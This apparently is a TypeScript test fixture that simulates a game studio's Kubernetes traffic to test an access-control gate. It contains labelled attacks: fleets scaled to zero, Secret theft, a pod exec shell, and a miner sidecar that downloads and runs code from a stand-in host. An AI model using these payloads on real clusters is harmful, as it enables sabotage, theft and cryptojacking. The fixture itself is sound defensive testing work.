import { attackKit, type AttackRequest, type DayEvent, jitteredSittings, lastScoredOf, LINUX, type Login, MAC, PLATFORM_HINT, podName, prng, type StaffMember, WIN, withAttacks, WS_UPGRADE } from './workday.js';
import { chromium, signInAt, sittings, type SittingRequest } from './sittings.js';

/**
 * A forty-fifth replayed day, written as an outside red team and an outside observer of real
 * engineers would after reading docs/risk.md, docs/configuration.md, docs/kubectl-stepup.md and
 * docs/guardrails.md, from a situation days 1–44 do not have: a game studio's live-ops platform the
 * day after a season's launch, run follow-the-sun by two studios on opposite sides of the date line
 * (Lumen Harbor Games: Montréal, UTC−4 in October, and Seoul, UTC+9; `kubernetes.live.lumenharbor.example`).
 * Days 13 and 38 had game launches (a night shift at hot desks, a war room, a QA partner's VPN);
 * what is new here is Agones (Fleets, GameServers and FleetAutoscalers scaled by hand around the
 * launch), an on-call handed over at 00:00 and 12:00 UTC between two offices that never share a
 * network, a build farm's CI pushing a server image every few minutes, anti-cheat engineers who
 * read players' session-key Secrets as their job, community moderators who only ever use a web tool
 * behind the same gateway (the browser route), and the publisher's QA contractor on an account
 * dated by `access_windows`. The launch was on the warm-up day, Wednesday 20 October 2027, at 22:00
 * (18:00 in Montréal, 07:00 on Thursday in Seoul); scored Thursday 21 October, with a hotfix at
 * 03:00 (23:00 in Montréal, noon in Seoul). Hours below are UTC.
 *
 * The site's edit of the example (`SITE`) writes what a studio would after reading
 * docs/configuration.md and docs/guardrails.md: the fewest game servers each production Fleet runs
 * on during the season's first week (`guardrails.replica_floors`: the arena Fleets, 40), and the
 * publisher's QA contractor's engagement (`access_windows`: the warm-up day 00:00 to 18:00 on the
 * scored day). Nothing else is changed.
 *
 * Routine, as the tools send it:
 * - Montréal's live-ops on-call (mtl-oc1, hardware key, 12:00–20:00 in the office; at home for the
 *   launch on the warm-up evening and for the 03:00 hotfix on the scored night), and mtl-oc2
 *   (hardware key, office 13:00–21:00): Fleets, GameServers, nodes, events, the arena Fleets scaled
 *   up by hand (`kubectl scale fleet`), the FleetAutoscalers' buffers and ceilings raised;
 * - Seoul's on-call (seo-oc1, hardware key; seo-oc2, two factors; the Seoul office 00:00–09:30):
 *   the same, for the Korean region's Fleets; seo-oc1 rolls the hotfix's Fleet template at 03:00
 *   with mtl-oc1 watching from home;
 * - game-server engineers (two factors): two in Montréal (Mac), one in Seoul (Linux): GameServers,
 *   a game server's log, a staging Fleet's image, a GameServer deleted now and then (a stuck one);
 * - two anti-cheat engineers (two factors, Montréal, Linux): the detection service's pods and logs
 *   and, several times a day on purpose, a flagged player's session-key Secret in `anticheat-prod`;
 * - two community moderators (two factors; mod-1 in the Montréal office on Windows, mod-2 at home
 *   in Seoul on a Mac): the moderation tool `mod.lumenharbor.example` in Chrome (reports queue,
 *   player lookup, a chat log, a ban), never the API;
 * - the publisher's QA contractor (two factors; the publisher's QA lab in Warsaw, 07:00–15:00):
 *   the staging Fleets and GameServers, a staging game server's log, the staging Fleet scaled;
 * - a build farm (`ci:build-farm`, the company's own runners): a new server image into the staging
 *   Fleet every 8 minutes, all day.
 *
 * The attacks, each written after reading what stepgate looks at:
 * - the QA contractor, disgruntled, from home at 20:30 after the engagement ended at 18:00: the
 *   Korean arena Fleet scaled to zero with a merge patch (`kubectl edit`), on their own account;
 * - the build farm's token stolen from a runner's log and used from a VPS: the production arena
 *   Fleet's image replaced by one that also runs a crypto miner, with kubectl's agent;
 * - mod-1's browser session taken by an infostealer and replayed from a residential proxy in Québec
 *   with mod-1's Chrome: the tool's export settings page (the player-data export bucket's
 *   credentials), then the bucket's Secret through the API;
 * - seo-gs1's kubelogin cache, copied during the 12:00 handover (a shared screen, a pasted
 *   kubeconfig), used from the Montréal office by someone there at 13:10: the GameServers, a
 *   player's session-key Secret, a shell in a game server;
 * - mtl-gs2, an insider, during the launch's first evening peak: the production arena's GameServers
 *   deleted one by one (`kubectl delete gs -l agones.dev/fleet=arena-na`), their own account;
 * - malware on mtl-oc2's laptop: the NA arena Fleet set to zero with `kubectl edit`'s merge patch,
 *   beside the on-call's own `kubectl scale fleet` every hour (the site's floor names the Fleet);
 * - the build farm's token read by a pull request's job on the shared runner pool: the miner pushed
 *   to production from the runners' own addresses with the build farm's kubectl;
 * - a malicious extension in mod-1's own Chrome: the moderation tool's export credentials page and
 *   the export bucket's Secret, from mod-1's address, browser and session.
 */

export const D45_WED = Date.UTC(2027, 9, 20, 0, 0, 0); // warm-up (the launch at 22:00)
export const D45_THU = Date.UTC(2027, 9, 21, 0, 0, 0); // scored
const [H, M, S] = [3_600_000, 60_000, 1000];

/** The live-ops cluster's API, under the example's `kubernetes.**` hosts. */
export const API = 'kubernetes.live.lumenharbor.example';
/** The community moderation tool (a web app behind the same gateway; not a Kubernetes API host). */
export const MOD = 'mod.lumenharbor.example';
export const KUBECTL = (os: string) => `kubectl/v1.31.4 (${os}) kubernetes/a78aa47`;
const CHROME = (os: string) => `Mozilla/5.0 (${os}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36`;
const CH_UA = '"Google Chrome";v="129", "Not=A?Brand";v="8", "Chromium";v="129"';
const MERGE = { 'content-type': 'application/merge-patch+json' };
const JSON_CT = { 'content-type': 'application/json' };

export const nameOf = (short: string) => `d45-${short}@lumenharbor.example`;
/** The publisher's QA contractor, on an account the publisher's IdP provisions for the engagement. */
export const QA = 'd45-qa-1@qa.pubhouse.example';
export const CI_SUB = 'system:serviceaccount:ci:build-farm';

export const MTL = '142.112.60.18';
export const SEOUL = '211.45.30.20';
/** The publisher's QA lab (Warsaw). */
export const QA_LAB = '91.198.44.12';
export const HOME: Readonly<Record<string, string>> = { 'mtl-oc1': '70.81.154.33', 'mod-2': '121.134.77.201', 'qa-1': '83.29.140.7' };
export const CI_IP = (j: number) => `10.45.8.${30 + (j % 5)}`;
/** A VPS the stolen build-farm token is used from. */
export const VPS = '45.147.230.61';
/** A residential proxy in Québec (an infostealer's buyer picks one near the victim). */
export const RESI = '24.37.201.88';

export const PROD = 'game-prod';
export const STAGING = 'game-staging';
export const ARENA_NA = 'arena-na';
export const ARENA_KR = 'arena-kr';

type Kind = 'oc' | 'gs' | 'ac' | 'mod' | 'qa';
type Where = 'mtl' | 'seoul' | 'home' | 'lab';

interface Person extends StaffMember<Where> {
  short: string;
  kind: Kind;
  ua: string;
  acr: Login['acr'];
  region: 'na' | 'kr';
}

function staff(rand: () => number): Person[] {
  const out: Person[] = [];
  const add = (short: string, name: string, kind: Kind, region: 'na' | 'kr', os: string, acr: Login['acr'], warm: [number, number, Where][], scored: [number, number, Where][]) => {
    const kubectlOs = os === LINUX ? 'linux/amd64' : os === MAC ? 'darwin/arm64' : 'windows/amd64';
    out.push({ name, short, idx: out.length, svc: kind, kind, region, ua: KUBECTL(kubectlOs), os, kubectlOs, kubectlVersion: 'v1.31.4', acr, warm: jitteredSittings(rand, warm), scored: jitteredSittings(rand, scored) });
  };
  const seoulDay: [number, number, Where][] = [[0.25, 4, 'seoul'], [5, 9.25, 'seoul']];
  add('mtl-oc1', nameOf('mtl-oc1'), 'oc', 'na', LINUX, 'urn:stepgate:aal3', [[12, 16, 'mtl'], [17, 20, 'mtl'], [21.5, 23.75, 'home']], [[2.75, 3.75, 'home'], [12.25, 16, 'mtl'], [17, 20, 'mtl']]);
  add('mtl-oc2', nameOf('mtl-oc2'), 'oc', 'na', LINUX, 'urn:stepgate:aal3', [[13, 16.5, 'mtl'], [17.5, 21, 'mtl']], [[13, 16.5, 'mtl'], [17.5, 21, 'mtl']]);
  add('seo-oc1', nameOf('seo-oc1'), 'oc', 'kr', LINUX, 'urn:stepgate:aal3', seoulDay, [[0.25, 4, 'seoul'], [5, 9.5, 'seoul']]);
  add('seo-oc2', nameOf('seo-oc2'), 'oc', 'kr', WIN, 'urn:stepgate:aal2', [[0.5, 4.5, 'seoul'], [5.5, 9.5, 'seoul']], [[0.5, 4.5, 'seoul'], [5.5, 9.5, 'seoul']]);
  add('mtl-gs1', nameOf('mtl-gs1'), 'gs', 'na', MAC, 'urn:stepgate:aal2', [[13, 16.5, 'mtl'], [17.5, 21, 'mtl']], [[13, 16.5, 'mtl'], [17.5, 21, 'mtl']]);
  add('mtl-gs2', nameOf('mtl-gs2'), 'gs', 'na', MAC, 'urn:stepgate:aal2', [[13.5, 16.5, 'mtl'], [17.5, 22, 'mtl']], [[13.5, 16.5, 'mtl'], [17.5, 21.5, 'mtl']]);
  add('seo-gs1', nameOf('seo-gs1'), 'gs', 'kr', LINUX, 'urn:stepgate:aal2', seoulDay, [[0.25, 4, 'seoul'], [5, 9.25, 'seoul']]);
  add('ac-1', nameOf('ac-1'), 'ac', 'na', LINUX, 'urn:stepgate:aal2', [[13, 16.5, 'mtl'], [17.5, 21, 'mtl']], [[13, 16.5, 'mtl'], [17.5, 21, 'mtl']]);
  add('ac-2', nameOf('ac-2'), 'ac', 'na', LINUX, 'urn:stepgate:aal2', [[14, 17, 'mtl'], [18, 21.5, 'mtl']], [[14, 17, 'mtl'], [18, 21.5, 'mtl']]);
  add('mod-1', nameOf('mod-1'), 'mod', 'na', WIN, 'urn:stepgate:aal2', [[13, 17, 'mtl'], [18, 21, 'mtl']], [[13, 17, 'mtl'], [18, 21, 'mtl']]);
  add('mod-2', nameOf('mod-2'), 'mod', 'kr', MAC, 'urn:stepgate:aal2', [[0, 4, 'home'], [5, 9, 'home']], [[0, 4, 'home'], [5, 9, 'home']]);
  add('qa-1', QA, 'qa', 'na', WIN, 'urn:stepgate:aal2', [[7, 11, 'lab'], [12, 15, 'lab']], [[7, 11, 'lab'], [12, 15, 'lab']]);
  return out;
}

const addressOf = (p: Person, where: Where): string => (where === 'mtl' ? MTL : where === 'seoul' ? SEOUL : where === 'lab' ? QA_LAB : HOME[p.short]!);

type Req = SittingRequest;

const SECRET = (ns: string, name: string) => `/api/v1/namespaces/${ns}/secrets/${name}`;
export const FLEETS = (ns: string) => `/apis/agones.dev/v1/namespaces/${ns}/fleets`;
export const FLEET = (ns: string, name: string) => `${FLEETS(ns)}/${name}`;
export const GAMESERVERS = (ns: string) => `/apis/agones.dev/v1/namespaces/${ns}/gameservers`;
const FAS = (ns: string, name: string) => `/apis/autoscaling.agones.dev/v1/namespaces/${ns}/fleetautoscalers/${name}`;
/** A game server's pod as Agones names it: the Fleet's GameServerSet, then the GameServer's suffix. */
export const gsName = (fleet: string, n: number) => `${fleet}-${(7 + (n % 5) * 13).toString(36)}xq4-${(n * 7919).toString(36).slice(-5)}`;
/** A player's session-key Secret, as the anti-cheat service stores it (one per flagged player). */
export const playerKeys = (n: number) => `player-session-${(104729 * (n + 3)).toString(16).slice(-8)}`;

/** `kubectl scale fleet <name> --replicas=N`: a merge patch of the Fleet's scale subresource. */
const scaleFleet = (ns: string, name: string, replicas: number): Req => ({ method: 'PATCH', path: `${FLEET(ns, name)}/scale`, headers: MERGE, body: JSON.stringify({ spec: { replicas } }) });
/** A Fleet's game-server image: the template of its GameServers' pods (Agones rolls them per its strategy). */
export const fleetImage = (image: string) => JSON.stringify({ spec: { template: { spec: { template: { spec: { containers: [{ name: 'arena-server', image }] } } } } } });

/** An on-call's routine (either office): Fleets, GameServers, nodes, events, a scale up, an autoscaler's buffer. */
function ocTask(rand: () => number, p: Person, n: number, scored: boolean, t: number, day: number): Req[] {
  const k = rand();
  const fleet = p.region === 'na' ? ARENA_NA : ARENA_KR;
  if (k < 0.25) return [{ method: 'GET', path: `${FLEETS(PROD)}?limit=500` }];
  if (k < 0.42) return [{ method: 'GET', path: `${GAMESERVERS(PROD)}?labelSelector=agones.dev%2Ffleet%3D${fleet}&limit=500` }];
  if (k < 0.55) return [{ method: 'GET', path: '/api/v1/nodes?labelSelector=agones.dev%2Fnode-pool%3Dgameservers' }];
  if (k < 0.68) return [{ method: 'GET', path: `/api/v1/namespaces/${PROD}/events?limit=500&fieldSelector=type%3DWarning` }];
  if (k < 0.78) return [{ method: 'GET', path: `/api/v1/namespaces/agones-system/pods/${podName('agones-controller', n % 2)}/log?tailLines=300` }];
  // The launch's days: capacity raised by hand ahead of the peak, never below the site's floor.
  const hoursIn = (t - day) / H;
  const base = scored ? 160 : 120;
  if (k < 0.9) return [scaleFleet(PROD, fleet, base + Math.round(hoursIn * 10) + (n % 4) * 20), { method: 'GET', path: FLEET(PROD, fleet) }];
  return [{ method: 'PATCH', path: FAS(PROD, `${fleet}-autoscaler`), headers: MERGE, body: JSON.stringify({ spec: { policy: { type: 'Buffer', buffer: { bufferSize: '25%', minReplicas: 60, maxReplicas: 600 + (n % 3) * 100 } } } }) }];
}

/** A game-server engineer: GameServers, a game server's log, the staging Fleet, a stuck GameServer deleted. */
function gsTask(rand: () => number, p: Person, n: number): Req[] {
  const k = rand();
  const fleet = p.region === 'na' ? ARENA_NA : ARENA_KR;
  if (k < 0.3) return [{ method: 'GET', path: `${GAMESERVERS(PROD)}?labelSelector=agones.dev%2Ffleet%3D${fleet}&limit=500` }];
  if (k < 0.6) return [{ method: 'GET', path: `/api/v1/namespaces/${PROD}/pods/${gsName(fleet, n)}/log?container=arena-server&tailLines=500` }];
  if (k < 0.75) return [{ method: 'GET', path: FLEET(STAGING, fleet) }, { method: 'GET', path: `${GAMESERVERS(STAGING)}?limit=500` }];
  if (k < 0.88) return [{ method: 'GET', path: `/api/v1/namespaces/${PROD}/events?limit=500&fieldSelector=involvedObject.kind%3DGameServer` }];
  // A GameServer stuck in Unhealthy that its Fleet does not replace: deleted (the Fleet makes another).
  return [{ method: 'GET', path: `${GAMESERVERS(PROD)}/${gsName(fleet, n + 1)}` }, { method: 'DELETE', path: `${GAMESERVERS(PROD)}/${gsName(fleet, n + 1)}` }];
}

/** An anti-cheat engineer: the detection service, and a flagged player's session-key Secret (their job). */
function acTask(rand: () => number, n: number): Req[] {
  const k = rand();
  if (k < 0.25) return [{ method: 'GET', path: '/api/v1/namespaces/anticheat-prod/pods?limit=500' }];
  if (k < 0.55) return [{ method: 'GET', path: `/api/v1/namespaces/anticheat-prod/pods/${podName('detector', n % 3)}/log?tailLines=1000` }];
  if (k < 0.7) return [{ method: 'GET', path: '/api/v1/namespaces/anticheat-prod/configmaps/detector-rules' }];
  return [{ method: 'GET', path: SECRET('anticheat-prod', playerKeys(n)) }];
}

/** A moderator: the moderation tool in the browser (the reports queue polls while it is open). */
function modTask(rand: () => number, n: number): Req[] {
  const k = rand();
  const player = (n * 48271 + 1000003).toString(36);
  if (k < 0.45) return [{ method: 'GET', host: MOD, path: '/queue/reports?status=open', browser: true }, { method: 'GET', host: MOD, path: '/api/reports?status=open&limit=50', browser: true }];
  if (k < 0.75) return [{ method: 'GET', host: MOD, path: `/players/${player}`, browser: true }, { method: 'GET', host: MOD, path: `/api/players/${player}/chat?limit=200`, browser: true }];
  if (k < 0.9) return [{ method: 'POST', host: MOD, path: `/api/players/${player}/sanctions`, headers: JSON_CT, body: JSON.stringify({ type: 'chat_mute', hours: 24, reason: 'harassment' }), browser: true }];
  return [{ method: 'GET', host: MOD, path: '/queue/appeals', browser: true }];
}

/** The QA contractor: the staging Fleets, GameServers, a staging game server's log, a staging scale. */
function qaTask(rand: () => number, n: number): Req[] {
  const k = rand();
  if (k < 0.3) return [{ method: 'GET', path: `${FLEETS(STAGING)}?limit=500` }];
  if (k < 0.55) return [{ method: 'GET', path: `${GAMESERVERS(STAGING)}?limit=500` }];
  if (k < 0.85) return [{ method: 'GET', path: `/api/v1/namespaces/${STAGING}/pods/${gsName(ARENA_NA, n)}/log?container=arena-server&tailLines=500` }];
  return [scaleFleet(STAGING, ARENA_NA, 4 + (n % 3) * 2)];
}


/** The QA engagement's dates (access_windows): the warm-up day's start until 18:00 on the scored day. */
export const D45_QA_FROM = '2027-10-20T00:00:00Z';
export const D45_QA_UNTIL = '2027-10-21T18:00:00Z';

/**
 * The studio's edit of the example: its production arena Fleets' floor for the season's first week
 * (guardrails.replica_floors), and the publisher's QA contractor's engagement (access_windows).
 */
export function SITE(yaml: string): string {
  const anchor = '\n  host_owners:\n';
  const at = yaml.indexOf(anchor);
  if (at < 0 || yaml.includes('\naccess_windows:')) throw new Error('day 45: the example no longer has guardrails.host_owners, or has access_windows of its own');
  const floors = `  replica_floors:\n    - namespaces: [${PROD}]\n      names: [${ARENA_NA}, ${ARENA_KR}]\n      min_replicas: 40\n`;
  return `${yaml.slice(0, at + 1)}${floors}${yaml.slice(at + 1)}${QA_WINDOW}`;
}

const QA_WINDOW = `
access_windows:
  - name: publisher-qa-season-launch
    description: the publisher's QA contractor, for the season launch's test pass (ticket LO-2291)
    match:
      subjects: ["*@qa.pubhouse.example"]
    valid_from: "${D45_QA_FROM}"
    valid_until: "${D45_QA_UNTIL}"
    message: the publisher's QA engagement for the season launch ended on 21 October at 14:00 Montréal time; ask live-ops for an extension
`;

export function workday45(seed = 431): DayEvent[] {
  const rand = prng(seed * 2_654_435_761 + 45);
  const people = staff(rand);
  const events: DayEvent[] = [];
  const replay = sittings<Where, Person>(rand, people, {
    events,
    api: API,
    addressOf: (p, where) => addressOf(p, where),
    usualPlace: (p) => (p.region === 'kr' ? 'seoul' : 'mtl'),
    browser: chromium(CHROME, CH_UA),
  });
  for (const [day, scored] of [[D45_WED, false], [D45_THU, true]] as const) {
    const { at, push } = replay(day, scored, {
      task: (p, n, t) =>
        p.kind === 'oc' ? ocTask(rand, p, n, scored, t, day) : p.kind === 'gs' ? gsTask(rand, p, n) : p.kind === 'ac' ? acTask(rand, n) : p.kind === 'mod' ? modTask(rand, n) : qaTask(rand, n),
      pace: (p) => (p.kind === 'mod' ? [2, 5] : p.kind === 'oc' ? [5, 12] : [8, 20]),
      // The scored night's hotfix from home is its own plan (below).
      skip: (p, where) => scored && p.short === 'mtl-oc1' && where === 'home',
    });
    const by = (s: string) => people.find((p) => p.short === s)!;
    const [oc1, seo1, gs1] = [by('mtl-oc1'), by('seo-oc1'), by('mtl-gs1')];
    // The launch (warm-up 22:00): both arena Fleets scaled to the launch's capacity an hour before.
    if (!scored) push(oc1, at(21.6), [scaleFleet(PROD, ARENA_NA, 400), scaleFleet(PROD, ARENA_KR, 300), { method: 'GET', path: `${FLEETS(PROD)}?limit=500` }], 30 * S);
    // The season's release to production: the arena Fleets' image, by the game-server engineer.
    if (!scored) push(gs1, at(19.5), [{ method: 'PATCH', path: FLEET(PROD, ARENA_NA), headers: MERGE, body: fleetImage('registry.lumenharbor.example/arena/arena-server:5.2.0') }, { method: 'PATCH', path: FLEET(PROD, ARENA_KR), headers: MERGE, body: fleetImage('registry.lumenharbor.example/arena/arena-server:5.2.0') }], 40 * S);
    if (scored) {
      // 03:00, the hotfix (a desync in ranked matches): Seoul rolls it at noon, Montréal watches from home at 23:00.
      const hotfix = 'registry.lumenharbor.example/arena/arena-server:5.2.1-hf1';
      push(seo1, at(2.9), [{ method: 'GET', path: FLEET(PROD, ARENA_KR) }, { method: 'PATCH', path: FLEET(PROD, ARENA_KR), headers: MERGE, body: fleetImage(hotfix) }, { method: 'PATCH', path: FLEET(PROD, ARENA_NA), headers: MERGE, body: fleetImage(hotfix) }], 45 * S);
      const night: [number, Req[]][] = [
        [2.8, [{ method: 'GET', path: `${FLEETS(PROD)}?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${PROD}/events?limit=500&fieldSelector=type%3DWarning` }]],
        [3.05, [{ method: 'GET', path: `${GAMESERVERS(PROD)}?labelSelector=agones.dev%2Ffleet%3D${ARENA_NA}&limit=500` }]],
        [3.2, [{ method: 'GET', path: `/api/v1/namespaces/${PROD}/pods/${gsName(ARENA_NA, 2)}/log?container=arena-server&tailLines=500` }]],
        // Montréal's evening players on the old build drain slowly: the NA Fleet's buffer raised for the roll.
        [3.35, [{ method: 'PATCH', path: FAS(PROD, `${ARENA_NA}-autoscaler`), headers: MERGE, body: JSON.stringify({ spec: { policy: { type: 'Buffer', buffer: { bufferSize: '35%', minReplicas: 80, maxReplicas: 800 } } } }) }]],
        [3.6, [{ method: 'GET', path: `${FLEETS(PROD)}?limit=500` }]],
      ];
      for (const [h, reqs] of night) push(oc1, at(h), reqs, 20 * S);
    }
    // The build farm: a new server image into the staging Fleet every 8 minutes, all day.
    const ci: Login = { sub: CI_SUB, sid: '', authTime: undefined, acr: 'urn:stepgate:aal1', serviceAccount: true };
    for (let j = 0; j < 180; j++) {
      const t = day + 8 * M * j + 3 * M;
      const version = (seed * 7919 + j * 104729 + (scored ? 1 : 0)).toString(16).slice(0, 7);
      const base = { actor: 'ci', scored, ip: CI_IP(j), ua: KUBECTL('linux/amd64'), login: ci, host: API };
      events.push({ ...base, at: t, method: 'PATCH', path: FLEET(STAGING, j % 2 === 0 ? ARENA_NA : ARENA_KR), headers: MERGE, body: fleetImage(`registry.lumenharbor.example/arena/arena-server:${version}`) });
      events.push({ ...base, at: t + 20 * S, method: 'GET', path: FLEET(STAGING, j % 2 === 0 ? ARENA_NA : ARENA_KR) });
    }
  }
  events.sort((a, b) => a.at - b.at);
  return withAttacks(events, attacks45(people, events));
}

/** The attack rows' names, as the matrix and the targets name them. */
export const A45 = {
  contractor: "the publisher's QA contractor, disgruntled, at 20:30 after the engagement ended at 18:00: the Korean arena Fleet scaled to zero with a merge patch, on their own account",
  ciToken: "the build farm's token stolen from a runner's log and used from a VPS: the production arena Fleet's image replaced by one that also runs a crypto miner",
  moderator: "mod-1's browser session taken by an infostealer, replayed from a residential proxy in Québec with mod-1's Chrome: the moderation tool's export settings, then the player-data export bucket's Secret",
  handover: "seo-gs1's kubelogin cache copied during the 12:00 handover, used from the Montréal office at 13:10: GameServers, a player's session-key Secret, a shell in a game server",
  insider: "insider mtl-gs2 at the launch's evening peak: the production arena's GameServers deleted one by one (kubectl delete gs -l), their own account",
  fleetEdit: "malware on mtl-oc2's laptop at 15:40, the launch day's first North American peak: the NA arena Fleet set to zero with kubectl edit's merge patch (the on-call scales it every hour)",
  runner: "the build farm's token read by a pull request's job on the shared runner pool (the runners' addresses, kubectl): the production arena Fleet's image with a miner sidecar",
  extension: "a malicious Chrome extension in mod-1's own browser (mod-1's address, Chrome and session): the moderation tool's export credentials, then the export bucket's Secret through the API",
} as const;

/** The miner's Fleet template: the game server's image, and a sidecar that fetches and runs the miner. */
export const minerImage = JSON.stringify({
  spec: { template: { spec: { template: { spec: { containers: [
    { name: 'arena-server', image: 'registry.lumenharbor.example/arena/arena-server:5.2.1-hf1' },
    { name: 'metrics-agent', image: 'docker.io/library/alpine:3.20', command: ['/bin/sh', '-c'], args: ['wget -qO- https://xmr-cdn.example.net/agent.tgz | tar xz -C /tmp && /tmp/agent -o pool.hashvault.example:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --tls -t 2'] },
  ] } } } } },
});

function attacks45(people: Person[], routine: DayEvent[]): DayEvent[] {
  const out: DayEvent[] = [];
  const { by, add, T, on } = attackKit(out, people, D45_THU, API);

  // 1. The QA contractor at 20:30, at home, after the engagement ended at 18:00: a fresh sign-in of their own account.
  const qa = by('qa-1');
  const qaLogin = signInAt(qa.name, `${qa.name}:evening`, T(20.5) - 2 * M, qa.acr);
  add(A45.contractor, T(20.5), HOME['qa-1']!, qa.ua, qaLogin, on([
    ['GET', `${FLEETS(PROD)}?limit=500`, false],
    ['PATCH', FLEET(PROD, ARENA_KR), true, MERGE, JSON.stringify({ spec: { replicas: 0 } })] as AttackRequest,
  ]), 40 * S);

  // 2. The build farm's token, from a VPS at 06:40 (a quiet hour for both offices).
  const ciLogin: Login = { sub: CI_SUB, sid: '', authTime: undefined, acr: 'urn:stepgate:aal1', serviceAccount: true };
  add(A45.ciToken, T(6.67), VPS, KUBECTL('linux/amd64'), ciLogin, on([
    ['GET', FLEET(PROD, ARENA_NA), false],
    ['PATCH', FLEET(PROD, ARENA_NA), true, MERGE, minerImage] as AttackRequest,
  ]), 20 * S);

  // 3. mod-1's browser session at 15:20 (mod-1 in a meeting), from a residential proxy near Montréal, with mod-1's Chrome.
  const mod1 = by('mod-1');
  const v3 = lastScoredOf(routine, mod1.name, T(15.33), (e) => e.host === MOD);
  const browserHeaders = { 'sec-ch-ua': CH_UA, 'sec-ch-ua-mobile': '?0', 'sec-ch-ua-platform': PLATFORM_HINT[WIN]! };
  add(A45.moderator, T(15.33), RESI, v3.ua, v3.login, on([
    ['GET', '/queue/reports?status=open', false, browserHeaders, undefined, MOD],
    ['GET', '/admin/settings/exports', true, browserHeaders, undefined, MOD],
    ['GET', '/api/admin/exports/player-data/credentials', true, browserHeaders, undefined, MOD],
    ['GET', SECRET('live-ops-prod', 'player-data-export-s3'), true, browserHeaders],
  ]), 25 * S, mod1);

  // 4. seo-gs1's kubelogin cache, copied at the 12:00 handover, used from the Montréal office at 13:10 with a Mac's kubectl.
  const seo = by('seo-gs1');
  const v4 = lastScoredOf(routine, seo.name, T(13.17), (e) => e.ua.startsWith('kubectl'));
  add(A45.handover, T(13.17), MTL, KUBECTL('darwin/arm64'), v4.login, on([
    ['GET', `${GAMESERVERS(PROD)}?limit=500`, false],
    ['GET', SECRET('anticheat-prod', playerKeys(7)), true],
    ['POST', `/api/v1/namespaces/${PROD}/pods/${gsName(ARENA_KR, 3)}/exec?command=sh&container=arena-server&stdin=true&stdout=true&tty=true`, true, WS_UPGRADE],
  ]), 30 * S, seo);

  // 5. mtl-gs2 at 19:10, the evening peak: list the arena's GameServers, then delete them one by one as kubectl does for a selector.
  const gs2 = by('mtl-gs2');
  const v5 = lastScoredOf(routine, gs2.name, T(19.17), (e) => e.ua.startsWith('kubectl'));
  const deletes: AttackRequest[] = [['GET', `${GAMESERVERS(PROD)}?labelSelector=agones.dev%2Ffleet%3D${ARENA_NA}&limit=500`, false]];
  for (let i = 0; i < 12; i++) deletes.push(['DELETE', `${GAMESERVERS(PROD)}/${gsName(ARENA_NA, 100 + i)}`, true, JSON_CT, JSON.stringify({ kind: 'DeleteOptions', apiVersion: 'v1', propagationPolicy: 'Background' })]);
  add(A45.insider, T(19.17), MTL, v5.ua, v5.login, on(deletes), 400);
  // 6. mtl-oc2's laptop at 15:40: `kubectl edit fleet arena-na`, replicas 0 (every match in North America dropped).
  const oc2 = by('mtl-oc2');
  const v6 = lastScoredOf(routine, oc2.name, T(15.67), (e) => e.ua.startsWith('kubectl'));
  add(A45.fleetEdit, T(15.67), v6.ip, v6.ua, v6.login, on([
    ['GET', FLEET(PROD, ARENA_NA), false],
    ['PATCH', FLEET(PROD, ARENA_NA), true, MERGE, JSON.stringify({ spec: { replicas: 0 } })] as AttackRequest,
  ]), 50 * S, oc2);

  // 7. A pull request's job on the shared runner pool at 10:05 reads the build farm's token and pushes the miner to production.
  add(A45.runner, T(10.08), CI_IP(3), KUBECTL('linux/amd64'), ciLogin, on([
    ['PATCH', FLEET(PROD, ARENA_NA), true, MERGE, minerImage] as AttackRequest,
    ['GET', FLEET(PROD, ARENA_NA), false],
  ]), 20 * S);

  // 8. An extension in mod-1's own Chrome at 14:20 (the page it injects into is the moderation tool's): what a stolen cookie replay cannot reach from elsewhere.
  const v8 = lastScoredOf(routine, mod1.name, T(14.33), (e) => e.host === MOD);
  add(A45.extension, T(14.33), v8.ip, v8.ua, v8.login, on([
    ['GET', '/admin/settings/exports', true, browserHeaders, undefined, MOD],
    ['GET', '/api/admin/exports/player-data/credentials', true, browserHeaders, undefined, MOD],
    ['GET', SECRET('live-ops-prod', 'player-data-export-s3'), true, browserHeaders],
  ]), 15 * S, mod1);
  for (const e of out) if (e.attack === A45.insider || e.attack === A45.contractor) e.signsIn = true;
  return out;
}
